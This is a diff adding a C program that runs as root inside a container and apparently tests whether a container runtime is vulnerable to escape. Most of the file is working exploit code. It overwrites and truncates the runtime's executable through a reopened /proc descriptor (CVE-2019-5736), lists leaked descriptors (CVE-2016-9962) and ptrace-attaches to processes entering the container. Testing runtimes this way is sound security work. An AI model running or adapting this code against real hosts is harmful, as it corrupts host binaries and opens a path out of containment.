@@ -1,0 +1,113 @@
+/*
+ * Runs as root in a container and waits for processes that enter it. Tries to write their executable
+ * (CVE-2019-5736), to trace them and to use their descriptors (CVE-2016-9962), and tells what it got.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static struct stat own;
+static unsigned long seen;
+
+static void link_of(const char *path, char *out, size_t size) {
+	ssize_t length = readlink(path, out, size - 1);
+	out[length < 0 ? 0 : length] = 0;
+}
+
+/* A descriptor held for reading is opened again for writing once the process has gone: the known attack. */
+static void overwrite(const char *base) {
+	char path[96], again[64], target[256];
+	struct stat facts;
+	snprintf(path, sizeof(path), "%s/exe", base);
+	link_of(path, target, sizeof(target));
+	/* The container's own programs are its own. */
+	if (strncmp(target, "/bin/", 5) == 0)
+		return;
+	int held = open(path, O_RDONLY | O_CLOEXEC);
+	if (held < 0)
+		return;
+	if (fstat(held, &facts) == 0 && (facts.st_ino != own.st_ino || facts.st_dev != own.st_dev)) {
+		seen++;
+		snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
+		for (int i = 0; i < 200; i++) {
+			int writer = open(again, O_WRONLY | O_CLOEXEC);
+			if (writer < 0) {
+				usleep(50);
+				continue;
+			}
+			if (write(writer, "#!/bin/false\n", 13) > 0)
+				printf("wrote %s\n", target);
+			if (ftruncate(writer, 0) == 0)
+				printf("truncated %s\n", target);
+			close(writer);
+			break;
+		}
+	}
+	close(held);
+}
+
+static void look_at_descriptors(const char *base) {
+	char path[96], link[352], target[256];
+	snprintf(path, sizeof(path), "%s/fd", base);
+	DIR *directory = opendir(path);
+	if (!directory)
+		return;
+	for (struct dirent *entry; (entry = readdir(directory));) {
+		snprintf(link, sizeof(link), "%s/%s", path, entry->d_name);
+		link_of(link, target, sizeof(target));
+		if (target[0] == '/' && strncmp(target, "/dev/", 5) != 0 && strncmp(target, "/proc", 5) != 0)
+			printf("descriptor %s\n", target);
+	}
+	closedir(directory);
+}
+
+static void trace(pid_t pid) {
+	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
+		return;
+	int status;
+	char path[64], target[256];
+	waitpid(pid, &status, __WALL);
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	link_of(path, target, sizeof(target));
+	printf("traced %s\n", target);
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+}
+
+int main(int argc, char **argv) {
+	int tries_to_trace = argc > 1 && strcmp(argv[1], "trace") == 0;
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (stat("/proc/self/exe", &own) < 0)
+		return 1;
+	signal(SIGTERM, exit);
+	printf("ready\n");
+	for (unsigned round = 0;; round++) {
+		DIR *directory = opendir("/proc");
+		if (!directory)
+			return 1;
+		for (struct dirent *entry; (entry = readdir(directory));) {
+			int pid = atoi(entry->d_name);
+			char base[64];
+			if (pid <= 1)
+				continue;
+			snprintf(base, sizeof(base), "/proc/%d", pid);
+			if (tries_to_trace)
+				trace(pid);
+			look_at_descriptors(base);
+			overwrite(base);
+		}
+		closedir(directory);
+		if (access("/stop", F_OK) == 0) {
+			printf("seen %lu\n", seen);
+			return 0;
+		}
+	}
+}
